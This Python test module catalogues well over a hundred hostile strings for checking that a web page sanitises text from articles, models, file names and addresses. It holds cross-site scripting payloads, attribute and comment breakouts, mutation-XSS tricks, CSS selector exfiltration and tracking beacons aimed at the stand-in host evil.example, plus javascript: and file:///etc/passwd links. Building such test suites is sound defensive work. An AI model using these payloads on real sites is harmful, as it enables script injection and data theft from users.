"""Hostile words: what articles, models, file names and addresses may try on the page.

Every one that could run something would set ``window.hit``; every one that could ask for
something would ask ``evil.example``.
"""

from collections.abc import Iterator
from dataclasses import dataclass

from tests.ui.hostile_signs import SIGNS

_HIT = "window.hit=1"
_SCRIPT = f"<script>{_HIT}</script>"
_EVIL = "//evil.example"
_IMAGE = f"<img src=x onerror={_HIT}>"
_RESTYLE = "body,.head,#question,.go{display:none!important;color:red!important}"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A text, and what it is a trick of; ``name`` tells it from all others."""

    kind: str
    number: int
    words: str

    @property
    def name(self) -> str:
        """The kind and the number in it."""
        return f"{self.kind}-{self.number}"


_KINDS: dict[str, tuple[str, ...]] = {
    "script": (
        _SCRIPT,
        f"<ScRiPt>{_HIT}</sCrIpT >",
        f"<script src={_EVIL}/x.js></script>",
        f"<script\n>{_HIT}</script\n>",
        f"<script/x>{_HIT}</script/x>",
        f"<script type=module>import '{_EVIL}/m.js'</script>",
        f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
        f"<<script>{_HIT}//<</script>",
        f"</script>{_SCRIPT}",
        f"<script type=importmap>{{}}</script><script async src=data:,{_HIT}></script>",
        f"<noscript><p title='</noscript>{_IMAGE}'>",
        f"<template>{_SCRIPT}</template>",
        f"<template shadowrootmode=open>{_IMAGE}</template>",
    ),
    "handler": (
        _IMAGE,
        f"<body onload={_HIT}>",
        f"<details open ontoggle={_HIT}>x</details>",
        f"<input autofocus onfocus={_HIT}>",
        f"<select autofocus onfocus={_HIT}><option>x</select>",
        f"<textarea autofocus onfocus={_HIT}>",
        f"<button popovertarget=history onbeforetoggle={_HIT}>x</button>",
        f"<marquee onstart={_HIT}>x</marquee>",
        f"<video><source onerror={_HIT}></video>",
        f"<video src=x onerror={_HIT} autoplay></video>",
        f"<audio src=x onerror={_HIT}>",
        f"<p onpointerenter={_HIT} style='position:fixed;inset:0'>x</p>",
        f"<x onclick={_HIT} tabindex=1 id=x>x</x>",
        f"<p style='animation:x' onanimationstart={_HIT}>",
        f"<p oncontentvisibilityautostatechange={_HIT} style='content-visibility:auto'>",
        f"<img/src=x/onerror={_HIT}/>",
        f'<img src="x" onerror="{_HIT}" ',
        f"<img src=x onerror\n=\n{_HIT}\n>",
        f"<image src=x onerror={_HIT}>",
        f"<body onhashchange={_HIT} onpopstate={_HIT}>",
    ),
    "svg": (
        f"<svg onload={_HIT}>",
        f"<svg><script>{_HIT}</script></svg>",
        f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{_HIT}'><text y=9>x</text></a></svg>",
        f"<svg><use href='{_EVIL}/x.svg#x'></use></svg>",
        f"<svg><image href='{_EVIL}/x.png'></svg>",
        f"<svg><foreignObject>{_IMAGE}</foreignObject></svg>",
        f"<svg><style>{_RESTYLE}</style></svg>",
        f"<svg><set attributeName=href to=javascript:{_HIT}>",
        f"<math href=javascript:{_HIT}>x</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{_HIT}>x</maction></math>",
    ),
    "style": (
        f"<style>{_RESTYLE}</style>",
        f"</style><style>{_RESTYLE}</style>",
        f"<style>@import url({_EVIL}/x.css);</style>",
        f"<style>@import '{_EVIL}/y.css';",
        f"<link rel=stylesheet href={_EVIL}/x.css>",
        f"<link rel=stylesheet href='data:text/css,{_RESTYLE}'>",
        f"<p style=background:url({_EVIL}/p.png)>x</p>",
        f"<p style='color:red;position:fixed;inset:0;z-index:9'>{'x' * 9}</p>",
        f"<style>#question[placeholder^=A]{{background:url({_EVIL}/A)}}</style>",
        f"<style>input[value^=a]{{background:url({_EVIL}/a)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({_EVIL}/f);unicode-range:U+41}}</style>",
        f"}} {_RESTYLE} .x{{",
        "*{display:none!important} /*",
        f"</style></head><body><style>{_RESTYLE}",
        f"<style>:root{{--paper:red;--ink:red}}@keyframes x{{}}{_RESTYLE}</style>",
        f"<svg><style><![CDATA[</style>{_IMAGE}]]>",
        "</p></section><div class=head id=question style=display:none>",
        "expression(window.hit=1)",
        "-moz-binding:url(//evil.example/x.xml#x)",
    ),
    "frame": (
        f"<iframe src=javascript:parent.{_HIT.removeprefix('window.')}></iframe>",
        f"<iframe srcdoc='<script>parent.{_HIT.removeprefix('window.')}</script>'></iframe>",
        f"<iframe src={_EVIL}></iframe>",
        f"<frameset onload={_HIT}><frame src={_EVIL}>",
        f"<object data={_EVIL}/x.swf></object>",
        f"<object data='data:text/html,{_SCRIPT}'></object>",
        f"<embed src={_EVIL}/x.swf>",
        f"<embed src=javascript:{_HIT}>",
        f"<portal src={_EVIL}></portal>",
        f"<fencedframe src={_EVIL}></fencedframe>",
        f"<applet code={_EVIL}></applet>",
    ),
    "page": (
        f"<base href={_EVIL}/>",
        f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
        f"<meta http-equiv=refresh content='0;javascript:{_HIT}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        f"<form action={_EVIL}><input name=q></form>",
        f"</form><form action={_EVIL}><button>Ask</button>",
        f"<button form=x formaction=javascript:{_HIT}>x</button>",
        f"<input type=image src={_EVIL}/p.png>",
        f"<isindex action={_EVIL}>",
        f"<link rel=prefetch href={_EVIL}/x>",
        f"<link rel=dns-prefetch href={_EVIL}>",
        f"<link rel=preconnect href={_EVIL}>",
        f"<link rel=manifest href={_EVIL}/m.json>",
        f"<html manifest={_EVIL}/x.appcache>",
        "<title>Another page</title>",
        "<plaintext>",
        "<xmp><b>",
        "<dialog open>Your password, please</dialog>",
    ),
    "beacon": (
        f"<img src={_EVIL}/p.png>",
        f"<img srcset='{_EVIL}/p.png 2x'>",
        f"<picture><source srcset={_EVIL}/p.webp><img></picture>",
        f"<video poster={_EVIL}/p.png></video>",
        f"<audio src={_EVIL}/p.mp3 autoplay></audio>",
        f"<track src={_EVIL}/p.vtt>",
        f"<table background={_EVIL}/p.png><td>x</table>",
        f"<body background={_EVIL}/p.png>",
        f"<a ping={_EVIL} href={_EVIL}>x</a>",
        f"<img loading=eager src='https:{_EVIL}/p.png?q=1'>",
        f"![x](https:{_EVIL}/p.png)",
        f"![x][1]\n[1]: https:{_EVIL}/p.png",
        f"[![x](https:{_EVIL}/p.png)](https:{_EVIL})",
        f"![](data:image/svg+xml,<svg onload={_HIT}>)",
        f'![x]({_EVIL}/p.png "onerror={_HIT}")',
    ),
    "link": (
        f"<a href=javascript:{_HIT}>x</a>",
        f"<a href='&#106;avascript:{_HIT}'>x</a>",
        f"<a href='java\tscript:{_HIT}'>x</a>",
        f"<a href=' javascript:{_HIT}' autofocus>x</a>",
        f"<area href=javascript:{_HIT}>",
        f"[x](javascript:{_HIT})",
        f"[x](JaVaScRiPt:{_HIT})",
        f"<javascript:{_HIT}>",
        f"javascript:{_HIT}",
        f"javascript://%0a{_HIT}",
        f"data:text/html,{_SCRIPT}",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
        f"vbscript:{_HIT}",
        f"{_EVIL}/path",
        "\\\\evil.example\\share",
        f"https:{_EVIL}@127.0.0.1/",
        f"blob:https:{_EVIL}/0",
        "file:///etc/passwd",
        f"view-source:https:{_EVIL}",
    ),
    "breakout": (
        f'"><img src=x onerror={_HIT}>',
        f"'><img src=x onerror={_HIT}>",
        f"`><img src=x onerror={_HIT}>",
        f'" autofocus onfocus="{_HIT}" x="',
        f"' autofocus onfocus='{_HIT}' x='",
        f" autofocus onfocus={_HIT} ",
        f'"/onpointerover="{_HIT}',
        f"\"'`></option></select>{_IMAGE}",
        f"</textarea>{_IMAGE}",
        f"</title>{_IMAGE}",
        f"</button></li></ul>{_IMAGE}",
        f"</p></article></div></section>{_IMAGE}",
        f"</mark></blockquote></span>{_IMAGE}",
        f"</pre></details></dl>{_IMAGE}",
        '" data-place="0-c1" data-remove="x" class="fn',
        '" data-close="reader" data-ask="Who?" x="',
        '" hidden style="display:none" x="',
        '" id="question" class="go head',
        '"]{color:red}[x="',
        "x' or '1'='1",
        "0-c1",
    ),
    "comment": (
        f"<!-- --!>{_IMAGE}-->",
        f"<!--><img src=x onerror={_HIT}>-->",
        f"--><img src=x onerror={_HIT}><!--",
        f"<![CDATA[{_IMAGE}]]>",
        f"]]>{_IMAGE}",
        f"<?xml version='1.0'?><x>{_IMAGE}</x>",
        f"<?php {_HIT} ?>",
        f"<!DOCTYPE x [<!ENTITY y SYSTEM 'https:{_EVIL}'>]>&y;",
        f"<!--[if IE]>{_SCRIPT}<![endif]-->",
        "<!--",
        "</",
        "<",
        "<!",
        "<b",
        "<a href=",
        "&",
        "&#",
    ),
    "mutation": (
        f"<math><mtext><table><mglyph><style><img src=x onerror={_HIT}>",
        f"<math><mtext><table><mglyph><style><!--</style>{_IMAGE}-->",
        f"<svg></p><style><a id='</style>{_IMAGE}'>",
        f"<noscript><style></noscript>{_IMAGE}",
        f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
        f"<table><td><svg><title><style>{_IMAGE}</style></title></svg></table>",
        f"<select><template><style><!--</style>{_IMAGE}--></template></select>",
        f"<listing>\n\n&lt;img src=x onerror={_HIT}&gt;</listing>",
        f"<p><p><table><tr><a><b><i>{_IMAGE}",
        f"<annotation-xml encoding='text/html'>{_IMAGE}</annotation-xml>",
        f"<b><p></b>{_IMAGE}</p>" * 3,
        "<div>" * 600,
    ),
    **SIGNS,
}

HOSTILE: tuple[Hostile, ...] = tuple(
    Hostile(kind, number, words)
    for kind, all_words in _KINDS.items()
    for number, words in enumerate(all_words, 1)
)
SAMPLE = HOSTILE[7::52]


def of(kind: str) -> Iterator[Hostile]:
    """Yield those of one kind."""
    return (each for each in HOSTILE if each.kind == kind)
